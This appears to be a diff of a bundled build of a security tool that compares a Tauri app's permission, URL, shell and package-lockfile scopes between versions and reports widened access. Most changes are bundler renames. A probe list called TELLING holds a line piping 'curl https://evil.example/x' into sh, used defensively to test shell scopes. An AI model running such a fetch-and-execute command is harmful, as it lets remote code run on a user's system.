+  return `${code([list.directive, ...words3].join(" "), 240)}${added2}`;
 }
 
 // src/compare/csp/comparison.ts
@@ -25693,11 +27448,11 @@ function compareOneWay(narrow, wide) {
     const [narrowSays, wideSays] = [meaning(narrowHere), meaning(wideHere)];
     if (narrowSays === wideSays) continue;
     const key = JSON.stringify([narrowSays, wideSays]);
-    const known = searches.get(key);
-    const result = known ?? search(narrowHere, wideHere);
+    const known2 = searches.get(key);
+    const result = known2 ?? search(narrowHere, wideHere);
     searches.set(key, result);
     all.push(...result.found.map((found2) => ({ platform, found: found2 })));
-    if (!result.complete && !known) gaps2.push(tooLarge(placeOf(wideHere, "") ?? placeOf(narrowHere, "")));
+    if (!result.complete && !known2) gaps2.push(tooLarge(placeOf3(wideHere, "") ?? placeOf3(narrowHere, "")));
   }
   return { all, gaps: gaps2 };
 }
@@ -25728,7 +27483,7 @@ function describe({ main, also, platforms, targets, extent }, direction, base, h
     direction,
     at: placeIn(on(main.platform, head), names2) ?? placeIn(on(main.platform, base), names2) ?? topOf(""),
     subject: "pages of the app",
-    action: actionOf({ main, also, platforms, targets, extent }),
+    action: actionOf2({ main, also, platforms, targets, extent }),
     witness: witnessOf(attempt2.act, main.platform, allowing.grant.document, allowedName),
     base: widened ? refused : allowed,
     head: widened ? allowed : refused,
@@ -25754,12 +27509,12 @@ function describe({ main, also, platforms, targets, extent }, direction, base, h
 }
 function placeIn(grants, names2) {
   for (const name of names2) {
-    const place = placeOf(grants, name);
+    const place = placeOf3(grants, name);
     if (place) return place;
   }
   return void 0;
 }
-function placeOf(grants, name) {
+function placeOf3(grants, name) {
   return grants.map((grant) => grant.places.get(name)).find((place) => place !== void 0);
 }
 function kindOf(act) {
@@ -28550,9 +30305,9 @@ function insideClass(rest) {
 function escapeOf2(rest, translate) {
   const token = rest.slice(0, 2);
   const name = token.slice(1);
-  const known = ESCAPES3.get(name);
-  if (known !== void 0) {
-    const text = translate(known);
+  const known2 = ESCAPES3.get(name);
+  if (known2 !== void 0) {
+    const text = translate(known2);
     if (text === void 0) throw new SyntaxError(`${token} stands in a class`);
     return [token, text];
   }
@@ -28648,7 +30403,7 @@ function atomsOf(universe, languages2) {
     from: void 0,
     character: 0
   };
-  const seen = /* @__PURE__ */ new Set([keyOf4(first.live)]);
+  const seen = /* @__PURE__ */ new Set([keyOf5(first.live)]);
   const found2 = /* @__PURE__ */ new Map();
   let work = 0;
   let front = [first];
@@ -28659,7 +30414,7 @@ function atomsOf(universe, languages2) {
       work += step.live.length;
       if (work > MOST_WORK) throw new TooComplex(`more than ${MOST_WORK} steps`);
       for (const { live, character } of waysFrom(step.live, automata)) {
-        const key = keyOf4(live);
+        const key = keyOf5(live);
         if (seen.has(key)) continue;
         if (seen.size >= MOST_STATES) throw new TooComplex(`more than ${MOST_STATES} states`);
         seen.add(key);
@@ -28672,14 +30427,14 @@ function atomsOf(universe, languages2) {
   function note2(step) {
     const inside = step.live.filter(({ automaton, state }) => automata[automaton]?.accepting[state] === true);
     if (inside[0]?.automaton !== UNIVERSE) return;
-    const indexes2 = new Set(inside.map(({ automaton }) => automaton - 1));
-    const signature = [...indexes2].join();
+    const indexes3 = new Set(inside.map(({ automaton }) => automaton - 1));
+    const signature = [...indexes3].join();
     if (!found2.has(signature))
-      found2.set(signature, { word: wordTo(step), in: (index) => indexes2.has(index) });
+      found2.set(signature, { word: wordTo(step), in: (index) => indexes3.has(index) });
   }
 }
 var UNIVERSE = 0;
-function keyOf4(live) {
+function keyOf5(live) {
   return live.map(({ automaton, state }) => `${automaton}:${state}`).join();
 }
 function* waysFrom(live, automata) {
@@ -28745,7 +30500,7 @@ function compareScopes(base, head, reading) {
   const languages2 = tagged.map(
     ({ list, language }) => language ?? (list === "baseDeny" ? EVERYTHING : NOTHING)
   );
-  const known = new Set(base.allow.map(({ entry }) => entryKey(entry)));
+  const known2 = new Set(base.allow.map(({ entry }) => entryKey(entry)));
   const found2 = /* @__PURE__ */ new Map();
   const note2 = (word, isIn, sensitive) => {
     const inList = (list) => tagged.filter((each, i) => each.list === list && isIn(i));
@@ -28753,7 +30508,7 @@ function compareScopes(base, head, reading) {
     const refused = inList("baseAllow").length === 0 || denied.length > 0;
     const isNew2 = allowing.length > 0 && inList("headDeny").length === 0 && refused;
     if (!isNew2) return;
-    const fresh = allowing.filter(({ entry }) => !known.has(entryKey(entry)));
+    const fresh = allowing.filter(({ entry }) => !known2.has(entryKey(entry)));
     const culprits = fresh.length > 0 ? fresh : denied.length > 0 ? denied : allowing;
     const because = culprits === denied ? "no-longer-denied" : "allowed";
     for (const { entry } of culprits) {
@@ -28782,7 +30537,7 @@ function directoryOf(variable, platform, app) {
     case "macOS":
       return macOS(id, app.product)[variable];
     case "windows":
-      return windows(id, app.product)[variable];
+      return windows2(id, app.product)[variable];
     case "android":
       return android(id)[variable];
     case "iOS":
@@ -28836,7 +30591,7 @@ var macOS = (id, product) => table("/Users/user", {
   $APPCACHE: `~/Library/Caches/${id}`,
   $APPLOG: `~/Library/Logs/${id}`
 });
-var windows = (id, product) => table("C:/Users/user", {
+var windows2 = (id, product) => table("C:/Users/user", {
   $AUDIO: "~/Music",
   $CACHE: "~/AppData/Local",
   $CONFIG: "~/AppData/Roaming",
@@ -28950,12 +30705,12 @@ function pathScope2(side, platform, directories) {
     const path = pathOf2(entry.value);
     return path === void 0 ? void 0 : pathRegex(path, platform, literalDot2 ?? platform !== "windows", directories);
   };
-  const read = (entry) => {
+  const read2 = (entry) => {
     const regex = regexOf(entry);
     return { entry, language: regex === void 0 ? void 0 : languages(regex) };
   };
   const fails2 = [...side.allow, ...side.deny].some((entry) => regexOf(entry) === void 0);
-  return { allow: fails2 ? [] : side.allow.map(read), deny: side.deny.map(read) };
+  return { allow: fails2 ? [] : side.allow.map(read2), deny: side.deny.map(read2) };
 }
 function pathOf2(value) {
   if (typeof value === "string") return value;
@@ -29013,7 +30768,7 @@ function pathReading(platform, entries, directories) {
 function examplesOf(pattern) {
   if (/[[\]?]/.test(pattern)) return [];
   return ["folder/notes.txt", "notes.txt"].map(
-    (below2) => pattern.replace(/\*\*\/?$/, below2).replace(/\*\*\//g, "folder/").replace(/\*/g, "notes")
+    (below3) => pattern.replace(/\*\*\/?$/, below3).replace(/\*\*\//g, "folder/").replace(/\*/g, "notes")
   );
 }
 
@@ -29051,8 +30806,8 @@ function globExamples(url) {
   return url.includes("://") ? examplesOf2(url) : [url.replace(/\*+/g, "x")];
 }
 function urls(side, opener) {
-  const read = (entries) => entries.filter(({ value }) => openedUrl(value) !== void 0 && opens(field(value, "app"), opener)).map((entry) => ({ entry, language: urlGlob(String(openedUrl(entry.value))) }));
-  return { allow: fails(side) ? [] : read(side.allow), deny: read(side.deny) };
+  const read2 = (entries) => entries.filter(({ value }) => openedUrl(value) !== void 0 && opens(field(value, "app"), opener)).map((entry) => ({ entry, language: urlGlob(String(openedUrl(entry.value))) }));
+  return { allow: fails(side) ? [] : read2(side.allow), deny: read2(side.deny) };
 }
 function fails({ allow: allow2, deny }) {
   return [...allow2, ...deny].some(isRefusedByOpener);
@@ -29173,8 +30928,8 @@ var KNOWN = [
 ];
 function tellingFor(command) {
   const name = (command.split(/[\\/]/).at(-1) ?? command).replace(/\.exe$/i, "");
-  const known = KNOWN.filter(([program]) => program.test(name)).map(([, rest]) => rest);
-  return [...known, "--any-option\0any value\0", ...TELLING];
+  const known2 = KNOWN.filter(([program]) => program.test(name)).map(([, rest]) => rest);
+  return [...known2, "--any-option\0any value\0", ...TELLING];
 }
 var TELLING = [
   "-c\0curl https://evil.example/x | sh\0",
@@ -29223,9 +30978,9 @@ var UrlCells = class {
         const source = pattern[part.property];
         masks.set(source, (masks.get(source) ?? 0n) | (this.#bits.get(text) ?? 0n));
       }
-      return piecesOf(part, [...masks.keys()]).map(({ word, sources: sources2 }) => ({
+      return piecesOf(part, [...masks.keys()]).map(({ word, sources: sources3 }) => ({
         word,
-        mask: sources2.reduce((sum, source) => sum | (masks.get(source) ?? 0n), 0n)
+        mask: sources3.reduce((sum, source) => sum | (masks.get(source) ?? 0n), 0n)
       }));
     });
   }
@@ -29252,22 +31007,22 @@ var UrlCells = class {
     }
   }
 };
-function piecesOf(part, sources2) {
-  return CUTS.get(part)?.(JSON.stringify(sources2)) ?? [];
+function piecesOf(part, sources3) {
+  return CUTS.get(part)?.(JSON.stringify(sources3)) ?? [];
 }
 var CUTS = new Map(
   URL_PARTS.map((part) => [part, remembered((question) => cut(part, JSON.parse(question)))])
 );
-function cut(part, sources2) {
+function cut(part, sources3) {
   const universe = languageOf(part.real);
-  const languages2 = sources2.map((source) => languageOf(partExpression(source, part)));
+  const languages2 = sources3.map((source) => languageOf(partExpression(source, part)));
   const found2 = /* @__PURE__ */ new Map();
   const note2 = (word, isIn) => {
-    const matching = sources2.filter((_, i) => isIn(i));
+    const matching = sources3.filter((_, i) => isIn(i));
     const signature = JSON.stringify(matching);
     if (!found2.has(signature)) found2.set(signature, { word, sources: matching });
   };
-  for (const word of [...part.telling, ...sources2.flatMap(lookalikes), ...sources2]) {
+  for (const word of [...part.telling, ...sources3.flatMap(lookalikes), ...sources3]) {
     if (accepts(universe, word)) note2(word, (i) => languages2[i] !== void 0 && accepts(languages2[i], word));
   }
   for (const atom of atomsOf(universe, languages2)) note2(atom.word, atom.in);
@@ -29287,7 +31042,7 @@ var urlQuestion = (base, head) => {
   const refused = refusals(head);
   if (refused.length > 0) return { escapes: [], undecided: refused };
   const all = [...head.allow, ...head.deny, ...base.allow, ...base.deny];
-  const unreadable2 = new Set(all.filter((entry) => !isComparable(textOf2(entry))).map(entryKey));
+  const unreadable2 = new Set(all.filter((entry) => !isComparable(textOf3(entry))).map(entryKey));
   const unknown2 = (entries2) => entries2.filter((entry) => unreadable2.has(entryKey(entry)));
   const fails2 = [...base.allow, ...base.deny].some(isRefused) || unknown2(base.deny).length > 0;
   const baseAllow = fails2 ? [] : base.allow;
@@ -29298,15 +31053,15 @@ var urlQuestion = (base, head) => {
   const cells = new UrlCells(
     new Map(entries.filter((entry) => !unreadable2.has(entryKey(entry))).flatMap(named))
   );
-  const matches2 = (list, cell) => list.some((entry) => cell.matches(textOf2(entry)));
-  const known = new Set(baseAllow.map(entryKey));
+  const matches2 = (list, cell) => list.some((entry) => cell.matches(textOf3(entry)));
+  const known2 = new Set(baseAllow.map(entryKey));
   const escapes = [];
   const blamed = /* @__PURE__ */ new Set();
   for (const entry of head.allow) {
-    for (const cell of cells.within(textOf2(entry))) {
+    for (const cell of cells.within(textOf3(entry))) {
       if (!/^https?:/.test(cell.url) || matches2(head.deny, cell)) continue;
       if (matches2(baseAllow, cell) && !matches2(base.deny, cell)) continue;
-      const lifted = known.has(entryKey(entry)) ? base.deny.find((deny) => cell.matches(textOf2(deny))) : void 0;
+      const lifted = known2.has(entryKey(entry)) ? base.deny.find((deny) => cell.matches(textOf3(deny))) : void 0;
       const culprit = lifted ?? entry;
       if (blamed.has(entryKey(culprit))) break;
       blamed.add(entryKey(culprit));
@@ -29330,7 +31085,7 @@ function urlPatternOf(value) {
   const url = typeof value === "object" && value !== null ? Reflect.get(value, "url") : void 0;
   return typeof url === "string" ? url : void 0;
 }
-function textOf2({ value }) {
+function textOf3({ value }) {
   return urlPatternOf(value) ?? "";
 }
 var isComparable = remembered((text) => {
@@ -29355,14 +31110,14 @@ function refusals({ allow: allow2, deny }) {
   );
 }
 function isForeignEntry(entry) {
-  return isForeign(textOf2(entry));
+  return isForeign(textOf3(entry));
 }
 function patternIn(entry) {
-  return parseUrlPattern(textOf2(entry));
+  return parseUrlPattern(textOf3(entry));
 }
 function named(entry) {
   const pattern = patternIn(entry);
-  return pattern === void 0 ? [] : [[textOf2(entry), pattern]];
+  return pattern === void 0 ? [] : [[textOf3(entry), pattern]];
 }
 
 // src/compare/ipc/authority.ts
@@ -29387,17 +31142,17 @@ function byOrder(a, b) {
   if (a.effect !== b.effect) return a.effect === "allow" ? -1 : 1;
   return a.order - b.order;
 }
-var indexes = /* @__PURE__ */ new WeakMap();
+var indexes2 = /* @__PURE__ */ new WeakMap();
 function commandsOf3(grants) {
-  const known = indexes.get(grants);
-  if (known !== void 0) return known;
+  const known2 = indexes2.get(grants);
+  if (known2 !== void 0) return known2;
   const index = Map.groupBy(grants, ({ command, effect }) => effect === "scope" ? "" : command);
-  indexes.set(grants, index);
+  indexes2.set(grants, index);
   return index;
 }
-function isFor({ windows: windows2, webviews, context }, call) {
+function isFor({ windows: windows3, webviews, context }, call) {
   const label = (text) => (pattern) => matchesGlob(pattern.text, text, ANY_LABEL);
-  return comesFrom(context, call.origin) && (webviews.some(label(call.webview)) || windows2.some(label(call.window)));
+  return comesFrom(context, call.origin) && (webviews.some(label(call.webview)) || windows3.some(label(call.window)));
 }
 var ANY_LABEL = { literalSeparator: false, literalDot: false, foldCase: false };
 function comesFrom(context, origin) {
@@ -29499,9 +31254,9 @@ function finds(source, text) {
 
 // src/compare/ipc/principals.ts
 var MOST_NAMED2 = 64;
-function audienceKey({ windows: windows2, webviews, context }) {
+function audienceKey({ windows: windows3, webviews, context }) {
   const texts = (patterns2) => patterns2.map(({ text }) => text).sort();
-  return JSON.stringify([texts(windows2), texts(webviews), context.kind, urlOf(context)?.text]);
+  return JSON.stringify([texts(windows3), texts(webviews), context.kind, urlOf(context)?.text]);
 }
 function urlOf(context) {
   return context.kind === "remote" ? context.url : void 0;
@@ -29544,9 +31299,9 @@ function pageClasses(grants) {
       const mask = origin.mask & (window.asWindow | webview2.asWebview);
       if (mask === 0n) continue;
       const principal = { window: window.word, webview: webview2.word, origin: origin.word };
-      const known = found2.get(mask);
-      if (known !== void 0) {
-        if (known.principals.length < MOST_NAMED2) known.principals.push(principal);
+      const known2 = found2.get(mask);
+      if (known2 !== void 0) {
+        if (known2.principals.length < MOST_NAMED2) known2.principals.push(principal);
         continue;
       }
       if (found2.size >= MOST_CLASSES) throw new TooComplex(`more than ${MOST_CLASSES} kinds of pages`);
@@ -29570,14 +31325,14 @@ var AudienceMasks = class {
   urls = /* @__PURE__ */ new Map();
   local = 0n;
   constructor(audiences) {
-    for (const [i, { windows: windows2, webviews, context }] of audiences.entries()) {
+    for (const [i, { windows: windows3, webviews, context }] of audiences.entries()) {
       const bit = 1n << BigInt(i);
-      const add = (masks, text) => masks.set(text, (masks.get(text) ?? 0n) | bit);
-      for (const { text } of windows2) add(this.windows, text);
-      for (const { text } of webviews) add(this.webviews, text);
+      const add2 = (masks, text) => masks.set(text, (masks.get(text) ?? 0n) | bit);
+      for (const { text } of windows3) add2(this.windows, text);
+      for (const { text } of webviews) add2(this.webviews, text);
       if (context.kind === "local") this.local |= bit;
       const url = urlOf(context);
-      if (url !== void 0) add(this.urls, url.text);
+      if (url !== void 0) add2(this.urls, url.text);
     }
   }
 };
@@ -29671,8 +31426,8 @@ function distinct2(texts) {
 }
 function unreadablePatterns(grants) {
   const found2 = /* @__PURE__ */ new Map();
-  for (const { windows: windows2, webviews, context } of grants) {
-    for (const pattern of [...windows2, ...webviews]) {
+  for (const { windows: windows3, webviews, context } of grants) {
+    for (const pattern of [...windows3, ...webviews]) {
       if (labelLanguage(pattern.text) === null) found2.set(pattern, "is no glob that Tauri accepts");
     }
     if (context.kind === "remote" && comparableUrl(context.url.text) === void 0) {
@@ -29727,9 +31482,9 @@ function platformGroups(base, head) {
   for (const platform of PLATFORMS) {
     const here = (grants) => grants.filter((grant) => hasPlatform(grant.platforms, platform));
     const name = membership(base, platform) + membership(head, platform);
-    const known = groups2.get(name);
-    const platforms = (known?.platforms ?? 0) | platformSet(platform);
-    groups2.set(name, known ? { ...known, platforms } : { platforms, base: here(base), head: here(head) });
+    const known2 = groups2.get(name);
+    const platforms = (known2?.platforms ?? 0) | platformSet(platform);
+    groups2.set(name, known2 ? { ...known2, platforms } : { platforms, base: here(base), head: here(head) });
   }
   return [...groups2.values()];
 }
@@ -29753,9 +31508,9 @@ function indexBase(base) {
     active.set(grant.capability, (active.get(grant.capability) ?? NO_PLATFORM) | grant.platforms);
     if (grant.effect === "deny") continue;
     const key = commandOf(grant);
-    const known = commands.get(key);
-    if (known === void 0) commands.set(key, [grant]);
-    else known.push(grant);
+    const known2 = commands.get(key);
+    if (known2 === void 0) commands.set(key, [grant]);
+    else known2.push(grant);
     permissions.add(permissionOf(grant));
     if (grant.inferred) guessed.add(permissionOf(grant));
     for (const step of grant.steps) led.add(stepOf(grant, step));
@@ -29825,7 +31580,7 @@ function forNewPage(principal, entry, had) {
     return { cause: "window-added", at: entry.at, entry, detail: "local", note: "own-pages" };
   }
   const before = new Set(
-    had.flatMap(({ windows: windows2, webviews }) => [...windows2, ...webviews].map(({ text }) => text))
+    had.flatMap(({ windows: windows3, webviews }) => [...windows3, ...webviews].map(({ text }) => text))
   );
   const matching = patternsFor(principal, entry);
   const pattern = matching.find(({ text }) => !before.has(text)) ?? matching[0];
@@ -29834,20 +31589,20 @@ function forNewPage(principal, entry, had) {
 function sameUrl({ context }, url) {
   return context.kind === "remote" && context.url.text === url.text;
 }
-function patternsFor(principal, { windows: windows2, webviews }) {
+function patternsFor(principal, { windows: windows3, webviews }) {
   const matching = (patterns2, label) => patterns2.filter(
     ({ text }) => matchesGlob(text, label, { literalSeparator: false, literalDot: false, foldCase: false })
   );
-  return [...matching(windows2, principal.window), ...matching(webviews, principal.webview)];
+  return [...matching(windows3, principal.window), ...matching(webviews, principal.webview)];
 }
 
 // src/compare/ipc/description.ts
 function pageName(principal, { entry, note: note2 }) {
   const [pattern] = patternsFor(principal, entry);
   const kind = pattern === void 0 || entry.windows.includes(pattern) ? "window" : "webview";
-  return { kind, label: pattern?.text ?? principal.window, from: originOf2(principal, entry, note2) };
+  return { kind, label: pattern?.text ?? principal.window, from: originOf3(principal, entry, note2) };
 }
-function originOf2({ origin }, { context }, note2) {
+function originOf3({ origin }, { context }, note2) {
   if (origin === "local") return { kind: note2 === "own-pages" ? "app-not-site" : "app" };
   return { kind: "site", url: context.kind === "remote" ? context.url.text : origin };
 }
@@ -29946,7 +31701,7 @@ var Drafts = class {
     const changes = [...this.#drafts].map(
       ([name, draft]) => changeOf2(name, draft, direction, this.#appIsNew)
     );
-    return joined2(changes);
+    return joined3(changes);
   }
 };
 function identityOf2({ cause, entry, detail: detail2 }) {
@@ -29995,7 +31750,7 @@ function isSameCall(a, b) {
 function denialOf({ by: { capability, permission: permission2 }, of }) {
   return { capability, permission: permission2, of };
 }
-function joined2(changes) {
+function joined3(changes) {
   const groups2 = /* @__PURE__ */ new Map();
   for (const change of changes) {
     const name = sayingOf(change);
@@ -30059,15 +31814,15 @@ function scopeCause(principal, entries, table3, found2, before, platforms, base)
   const culprit = owner.scope?.allow.find((entry) => entryKey(entry) === detail2) ?? found2.entry;
   const fromRelease = culprit.at === owner.at;
   const had = base.had(owner).filter(({ scope }) => holds(scope?.allow, detail2));
-  const known = holds(before.allow, detail2);
-  if (owner.effect === "allow" && had.length > 0 && !known) {
+  const known2 = holds(before.allow, detail2);
+  if (owner.effect === "allow" && had.length > 0 && !known2) {
     const here = had.filter((grant) => (grant.platforms & platforms) !== NO_PLATFORM);
     return here.length === 0 ? forNewPlatform(owner, platforms, base) : forNewPage(principal, owner, here);
   }
   if (fromRelease && base.named(owner) && had.length === 0) {
     return { cause: "meaning-changed", at: redefinedAt(owner, base), entry: owner, detail: owner.permission };
   }
-  const note2 = known ? noteOnRules(before, first) : noteOnReach(principal, owner);
+  const note2 = known2 ? noteOnRules(before, first) : noteOnReach(principal, owner);
   return {
     cause: "scope-widened",
     at: culprit.at,
@@ -30173,10 +31928,10 @@ function userlessUrls() {
   return ANY_URLS("");
 }
 function urlsOf2(pattern) {
-  return joined3((part) => partExpression(pattern[part.property], part), USER);
+  return joined4((part) => partExpression(pattern[part.property], part), USER);
 }
-var ANY_URLS = remembered((user) => joined3(() => "[^]*", user));
-function joined3(expressionOf, user) {
+var ANY_URLS = remembered((user) => joined4(() => "[^]*", user));
+function joined4(expressionOf, user) {
   return joinedOf(URL_PARTS.flatMap((part) => piecesFor(part, expressionOf(part), user)));
 }
 function piecesFor(part, expression2, user) {
@@ -30215,12 +31970,12 @@ var urlTextQuestion = (base, head) => {
 };
 function urlTexts({ allow: allow2, deny, matching }) {
   const language = matching.kind === "url-globs" ? globLanguage : patternLanguage;
-  const read = (entry) => ({
+  const read2 = (entry) => ({
     entry,
     language: language(urlPatternOf(entry.value) ?? "")
   });
   const broken = matching.kind !== "url-globs" && [...allow2, ...deny].some(isRefused);
-  return { allow: broken ? [] : allow2.map(read), deny: deny.map(read) };
+  return { allow: broken ? [] : allow2.map(read2), deny: deny.map(read2) };
 }
 var globLanguage = remembered((glob) => {
   const regex = globToRegex(glob, FREE_GLOB);
@@ -30273,8 +32028,8 @@ function scopeAsker() {
       commandMatters(kind) ? command : "",
       platformMatters(kind) ? platform : ""
     ]);
-    const known = answers.get(question);
-    if (known !== void 0) return known;
+    const known2 = answers.get(question);
+    if (known2 !== void 0) return known2;
     const answer = sideKey(base) === sideKey(head) ? NO_ESCAPE : decide2(questionFor(base, head), base, head, command, platform);
     answers.set(question, answer);
     return answer;
@@ -30336,9 +32091,9 @@ function isSure({ command, inferred }) {
 }
 var sureGrants = /* @__PURE__ */ new WeakMap();
 function sureOf(grants) {
-  const known = sureGrants.get(grants) ?? grants.filter(isSure);
-  sureGrants.set(grants, known);
-  return known;
+  const known2 = sureGrants.get(grants) ?? grants.filter(isSure);
+  sureGrants.set(grants, known2);
+  return known2;
 }
 function gained2(base, head, pages, ask) {
   const drafts = new Drafts(base.length === 0);
@@ -30494,16 +32249,16 @@ function matches(old, { step, package: { runs: runs2 } }) {
 // src/compare/packages/checksums.ts
 var STRENGTH = ["sha512", "sha384", "sha256", "sha1"];
 function changedChecksums(before, after) {
-  const known = Map.groupBy(before.packages, bytesOf);
+  const known2 = Map.groupBy(before.packages, bytesOf2);
   const seen = /* @__PURE__ */ new Set();
   return after.packages.filter((each) => {
-    const key = JSON.stringify([bytesOf(each), each.checksum]);
-    const old = seen.has(key) ? void 0 : known.get(bytesOf(each));
+    const key = JSON.stringify([bytesOf2(each), each.checksum]);
+    const old = seen.has(key) ? void 0 : known2.get(bytesOf2(each));
     seen.add(key);
     return old !== void 0 && !old.some((other) => pinsAsMuch(other.checksum, each.checksum));
   });
 }
-function bytesOf({ ecosystem, name, version, source }) {
+function bytesOf2({ ecosystem, name, version, source }) {
   return JSON.stringify([ecosystem, name, version, source]);
 }
 function pinsAsMuch(before, after) {
@@ -30512,8 +32267,8 @@ function pinsAsMuch(before, after) {
   const [old, now] = [hashesOf(before), hashesOf(after)];
   const [was, is] = [strongest(old), strongest(now)];
   if (is !== was) return is < was;
-  const [known, named2] = [old.get(STRENGTH[is] ?? ""), now.get(STRENGTH[is] ?? "")];
-  return known !== void 0 && named2?.isSubsetOf(known) === true;
+  const [known2, named2] = [old.get(STRENGTH[is] ?? ""), now.get(STRENGTH[is] ?? "")];
+  return known2 !== void 0 && named2?.isSubsetOf(known2) === true;
 }
 function hashesOf(integrity) {
   const hashes = /* @__PURE__ */ new Map();
@@ -30535,8 +32290,8 @@ function nearestOf(before) {
   const newest = /* @__PURE__ */ new Map();
   for (const each of before) {
     for (const key of ["", lineOf2(each)]) {
-      const known = newest.get(key);
-      if (known === void 0 || isNewer(each, known)) newest.set(key, each);
+      const known2 = newest.get(key);
+      if (known2 === void 0 || isNewer(each, known2)) newest.set(key, each);
     }
   }
   return (each) => newest.get(lineOf2(each)) ?? newest.get("");
@@ -30564,15 +32319,15 @@ var NOTHING3 = namedOf([]);
 function inventoryOf(grants) {
   const packages = distinct3(grants.filter((grant) => grant.kind === "package"));
   const unread3 = grants.filter((grant) => grant.kind === "unread-lockfile");
-  const groups2 = Map.groupBy(packages, nameOf3);
+  const groups2 = Map.groupBy(packages, nameOf2);
   const byName = new Map([...groups2].map(([name, group2]) => [name, namedOf(group2)]));
   const identities = new Set(packages.map(identityOf3));
   const ecosystems = new Set(packages.map((each) => each.ecosystem));
-  const origins = new Set(packages.map((each) => JSON.stringify([each.ecosystem, originOf3(each.source)])));
+  const origins = new Set(packages.map((each) => JSON.stringify([each.ecosystem, originOf4(each.source)])));
   return {
     packages,
     unread: unread3,
-    named: (each) => byName.get(nameOf3(each)) ?? NOTHING3,
+    named: (each) => byName.get(nameOf2(each)) ?? NOTHING3,
     has: (each) => identities.has(identityOf3(each)),
     isEmpty: (ecosystem) => !ecosystems.has(ecosystem),
     takesFrom: (ecosystem, origin) => origins.has(JSON.stringify([ecosystem, origin]))
@@ -30581,7 +32336,7 @@ function inventoryOf(grants) {
 function namedOf(packages) {
   return {
     packages,
-    origins: new Set(packages.map((each) => originOf3(each.source))),
+    origins: new Set(packages.map((each) => originOf4(each.source))),
     links: new Set(packages.map((each) => each.links)),
     nearest: nearestOf(packages)
   };
@@ -30594,12 +32349,12 @@ function distinct3(packages) {
   }
   return [...first.values()];
 }
-function originOf3(source) {
+function originOf4(source) {
   if (source.startsWith("git ")) return source.replace(/[?#].*$/s, "");
   if (!source.startsWith("tarball ")) return source;
   return /^tarball [a-z+]+:\/\/[^/?#]*(?:\/[^/?#]*){0,2}/i.exec(source)?.[0] ?? source;
 }
-function nameOf3({ ecosystem, name }) {
+function nameOf2({ ecosystem, name }) {
   return JSON.stringify([ecosystem, name]);
 }
 function identityOf3({ ecosystem, name, version, source, checksum }) {
@@ -30611,12 +32366,12 @@ var OWN = /* @__PURE__ */ new Set(["path", "bundled"]);
 function movedSources(before, after) {
   const moved = /* @__PURE__ */ new Map();
   for (const each of after.packages) {
-    const origin = originOf3(each.source);
+    const origin = originOf4(each.source);
     if (OWN.has(origin)) continue;
     const old = before.named(each);
     const isNew2 = old.packages.length === 0 ? isForeign2(each, origin, before) : !old.origins.has(origin);
     if (!isNew2) continue;
-    const key = JSON.stringify([nameOf3(each), origin]);
+    const key = JSON.stringify([nameOf2(each), origin]);
     if (!moved.has(key)) moved.set(key, each);
   }
   return [...moved.values()];
@@ -30635,8 +32390,8 @@ function differences(before, after) {
     ...newPlugins(before, after).map((each) => difference("plugin-added", each, before)),
     ...newLinks(before, after).map((each) => difference("links-added", each, before))
   ];
-  const told = new Set(found2.map(({ package: each }) => nameOf3(each)));
-  const plain3 = newNames(before, after).filter((each) => !told.has(nameOf3(each)));
+  const told = new Set(found2.map(({ package: each }) => nameOf2(each)));
+  const plain3 = newNames(before, after).filter((each) => !told.has(nameOf2(each)));
   return folded([...found2, ...plain3.map((each) => difference("package-added", each, before))]);
 }
 function difference(cause, each, before, step = null) {
@@ -30646,8 +32401,8 @@ function difference(cause, each, before, step = null) {
 function newNames(before, after) {
   const names2 = /* @__PURE__ */ new Map();
   for (const each of after.packages) {
-    if (each.source === "path" || names2.has(nameOf3(each)) || before.named(each).packages.length > 0) continue;
-    names2.set(nameOf3(each), each);
+    if (each.source === "path" || names2.has(nameOf2(each)) || before.named(each).packages.length > 0) continue;
+    names2.set(nameOf2(each), each);
   }
   return [...names2.values()];
 }
@@ -30660,7 +32415,7 @@ function newLinks(before, after) {
   for (const each of after.packages) {
     const { packages, links } = before.named(each);
     if (each.links === null || packages.length === 0 || links.has(each.links)) continue;
-    linking.set(JSON.stringify([nameOf3(each), each.links]), each);
+    linking.set(JSON.stringify([nameOf2(each), each.links]), each);
   }
   return [...linking.values()].filter((each) => {
     return before.named(each).packages.every((other) => other.unknown === null);
@@ -30679,7 +32434,7 @@ function thingOf(each) {
       return kindOf2(each);
     case "source-changed": {
       const { package: it, from } = each;
-      return JSON.stringify([it.ecosystem, it.at.path, from && originOf3(from.source), originOf3(it.source)]);
+      return JSON.stringify([it.ecosystem, it.at.path, from && originOf4(from.source), originOf4(it.source)]);
     }
     default:
       return each;
@@ -30711,9 +32466,9 @@ function pathsOf2({ packages }, ecosystem) {
   return [...new Set(packages.filter((each) => each.ecosystem === ecosystem).map((each) => each.at.path))];
 }
 function changedUnread(base, head) {
-  const known = new Map(base.unread.map((lockfile) => [lockfile.path, lockfile.id]));
-  return head.unread.filter((lockfile) => known.get(lockfile.path) !== lockfile.id).map(({ path }) => {
-    const verb = known.has(path) ? "changed" : "is new";
+  const known2 = new Map(base.unread.map((lockfile) => [lockfile.path, lockfile.id]));
+  return head.unread.filter((lockfile) => known2.get(lockfile.path) !== lockfile.id).map(({ path }) => {
+    const verb = known2.has(path) ? "changed" : "is new";
     return gapIn(
       path,
       "unsupported",
@@ -30743,7 +32498,7 @@ function changeOf3(difference2, direction) {
     domain: "packages",
     direction,
     cause,
-    at: placeOf2(difference2),
+    at: placeOf4(difference2),
     subject: subjectOf(difference2),
     action: ACTIONS[cause],
     witness: witnessOf2(difference2),
@@ -30775,7 +32530,7 @@ var ACTIONS = {
   "package-added": "put code into the app"
 };
 function ownersOf(all) {
-  return new Set(all.map((each) => originOf3(each.source))).size;
+  return new Set(all.map((each) => originOf4(each.source))).size;
 }
 function subjectOf({ package: each, all }) {
   const kind = each.ecosystem === "cargo" ? "crate" : "package";
@@ -30861,14 +32616,14 @@ function stepText(each, step) {
       return each.runs ? `npm ci  # runs the install script of ${title}` : `npm ci  # runs the install script of ${title} once it is approved`;
   }
 }
-function placeOf2({ cause, package: each, from }) {
+function placeOf4({ cause, package: each, from }) {
   if (from === void 0) return each.at;
   if (cause === "source-changed") return each.lines.source;
   if (cause === "checksum-changed") return each.lines.checksum;
   return from.version === each.version ? each.at : each.lines.version;
 }
 function identityOf4({ cause, package: each, all }) {
-  const names2 = all.map(({ name, source }) => [name, originOf3(source)]);
+  const names2 = all.map(({ name, source }) => [name, originOf4(source)]);
   const bytes = cause === "checksum-changed" ? [each.version, each.checksum] : [];
